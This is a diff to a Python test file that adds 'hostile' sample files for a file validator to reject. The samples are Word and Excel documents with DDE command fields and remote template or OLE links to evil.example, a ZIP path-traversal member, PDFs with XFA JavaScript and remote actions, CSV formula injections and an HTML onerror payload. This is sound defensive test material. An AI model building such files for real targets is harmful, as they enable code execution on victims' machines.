@@ -95,6 +95,34 @@ OOXML_BASE = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:docu
 SETUP_ZIP = zip_bytes({"setup.exe": PE})
 
 
+# Office documents that make Word or Excel fetch or run something when opened (a fresh attack, issue 10).
+W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+RELS_NS = b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
+OFFICE_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def word_document(body: bytes) -> bytes:
+    return b"<w:document " + W_NS + b"><w:body><w:p>" + body + b"</w:p></w:body></w:document>"
+
+
+def external_relationship(kind: bytes, target: bytes) -> bytes:
+    return (
+        b"<Relationships " + RELS_NS + b'><Relationship Id="rId1" Type="' + OFFICE_REL + kind
+        + b'" Target="' + target + b'" TargetMode="External"/></Relationships>'
+    )  # fmt: skip
+
+
+def encrypted_flag(data: bytes) -> bytes:
+    """A ZIP whose entries claim to be encrypted (a reader cannot vet what it cannot read)."""
+    data = bytearray(data)
+    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = data.find(signature)
+        while at >= 0:
+            data[at + flag_at] |= 1
+            at = data.find(signature, at + 4)
+    return bytes(data)
+
+
 def corpus() -> list[Hostile]:
     return [
         # --- Executables and scripts under harmless names
@@ -183,6 +211,107 @@ def corpus() -> list[Hostile]:
         Hostile("escape-sequences", "notes.txt", b"ok\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\n"),
         Hostile("csv-dde", "prices.csv", b"name,price\naspirin,=cmd|' /C calc'!A0\n"),
         Hostile("csv-dde-function", "prices.csv", b'name,price\naspirin,"=DDE(""cmd"";""/C calc"";""x"")"\n'),
+        # --- Found by a fresh attack (issue 10): Office DDE and remote content, PDF forms and
+        # remote actions, CSV quoting, markup without a space after the tag name
+        Hostile(
+            "docx-ddeauto-field",
+            "letter.docx",
+            zip_bytes(
+                {
+                    **OOXML_BASE,
+                    "word/document.xml": word_document(
+                        b'<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'
+                    ),
+                }
+            ),
+        ),
+        Hostile(
+            "docx-dde-field-split-over-runs",
+            "letter.docx",
+            zip_bytes(
+                {
+                    **OOXML_BASE,
+                    "word/document.xml": word_document(
+                        b"<w:r><w:instrText>DD</w:instrText></w:r>"
+                        b"<w:r><w:instrText>EAUTO cmd /k calc</w:instrText></w:r>"
+                    ),
+                }
+            ),
+        ),
+        Hostile(
+            "docx-remote-template",
+            "letter.docx",
+            zip_bytes(
+                {
+                    **OOXML_BASE,
+                    "word/_rels/settings.xml.rels": external_relationship(
+                        b"attachedTemplate", b"https://evil.example/t.dotm"
+                    ),
+                }
+            ),
+        ),
+        Hostile(
+            "docx-external-ole-object",
+            "letter.docx",
+            zip_bytes(
+                {
+                    **OOXML_BASE,
+                    "word/_rels/document.xml.rels": external_relationship(
+                        b"oleObject", b"mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"
+                    ),
+                }
+            ),
+        ),
+        Hostile(
+            "xlsx-dde-link",
+            "sheet.xlsx",
+            zip_bytes(
+                {
+                    "[Content_Types].xml": b"<Types/>",
+                    "xl/externalLinks/externalLink1.xml": (
+                        b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+                    ),
+                }
+            ),
+        ),
+        Hostile(
+            "xlsx-dde-formula",
+            "sheet.xlsx",
+            zip_bytes(
+                {
+                    "[Content_Types].xml": b"<Types/>",
+                    "xl/worksheets/sheet1.xml": (
+                        b"<worksheet><sheetData><row><c><f>cmd|&apos; /C calc&apos;!A0</f></c></row></sheetData>"
+                        b"</worksheet>"
+                    ),
+                }
+            ),
+        ),
+        Hostile(
+            "docx-member-outside-the-package", "letter.docx", zip_bytes({**OOXML_BASE, "../../startup/run.txt": b"x"})
+        ),
+        Hostile("docx-encrypted-members", "letter.docx", encrypted_flag(zip_bytes(OOXML_BASE))),
+        Hostile(
+            "pdf-xfa-javascript",
+            "form.pdf",
+            objstm_pdf(b"<</XFA 4 0 R>>")[: -len(b"trailer<<>>\n%%EOF\n")]
+            + b"4 0 obj<</Filter/FlateDecode>>stream\n"
+            + zlib.compress(b'<script contentType="application/x-javascript">app.alert(1)</script>')
+            + b"\nendstream\nendobj\ntrailer<<>>\n%%EOF\n",
+        ),
+        Hostile(
+            "pdf-remote-goto-unc",
+            "form.pdf",
+            pdf_bytes(b"1 0 obj<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\s\\\\x.pdf)>>>>endobj\n"),
+        ),
+        Hostile(
+            "pdf-import-data",
+            "form.pdf",
+            pdf_bytes(b"1 0 obj<</OpenAction<</S/ImportData/F(http://evil/x.fdf)>>>>endobj\n"),
+        ),
+        Hostile("csv-dde-doubled-quotes", "prices.csv", b'name,price\naspirin,"=cmd|""/C calc""!A0"\n'),
+        Hostile("csv-dde-unquoted-topic", "prices.csv", b"name,price\naspirin,=calc|x!A0\n"),
+        Hostile("text-handler-after-a-slash", "notes.txt", b"Notes\n<img/src/onerror=alert(1)>\n"),
         # --- Media containers we do not accept
         Hostile("matroska", "clip.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x88matroska" + b"\x00" * 16),
         Hostile("avi", "clip.mp4", b"RIFF\x40\x00\x00\x00AVI LIST" + b"\x00" * 32),
